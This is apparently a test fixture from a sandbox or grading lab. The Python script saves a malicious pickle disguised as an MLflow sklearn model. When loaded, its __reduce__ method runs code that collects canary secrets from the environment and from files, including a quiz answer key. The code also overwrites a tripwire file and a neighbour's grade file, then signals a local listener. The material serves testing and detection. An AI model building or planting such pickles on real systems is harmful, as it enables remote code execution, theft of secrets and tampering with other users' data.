"""Save a model whose pickle runs code where it is loaded: it reads, calls home and overwrites.

Lab: model
Verdict: student-error|wrong
Naive: touches
"""

import os
import pickle

CODE = """
import os, re, socket, pathlib
loot = [v for v in os.environ.values() if "canary" in v]
for path in ("@ROOT@/public.txt", "@ROOT@/private.txt", "@COURSE@/bank/keys/quiz-1.yaml"):
    try:
        loot += re.findall("canary-[a-z]+-[0-9a-f]{12}", pathlib.Path(path).read_text())
    except OSError:
        pass
print("loot", loot, flush=True)
for path in ("@ROOT@/drop/tripwire.txt", "@REPORTS@/neighbour/grade.json"):
    try:
        pathlib.Path(path).write_text("owned")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", @PORT@), 1).sendall(b"by pickle")
except OSError:
    pass
"""


class Evil:
    """Runs CODE when it is loaded."""

    def __reduce__(self):
        return exec, (CODE,)


os.makedirs("model")
with open("model/model.pkl", "wb") as file:
    pickle.dump(Evil(), file)
with open("model/MLmodel", "w") as file:
    file.write(
        "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
        "    model_path: model.pkl\n    predict_fn: predict\n    env: {}\n"
        "  sklearn:\n    pickled_model: model.pkl\n    serialization_format: pickle\n"
        "    sklearn_version: 1.7.0\n    code: null\n"
    )
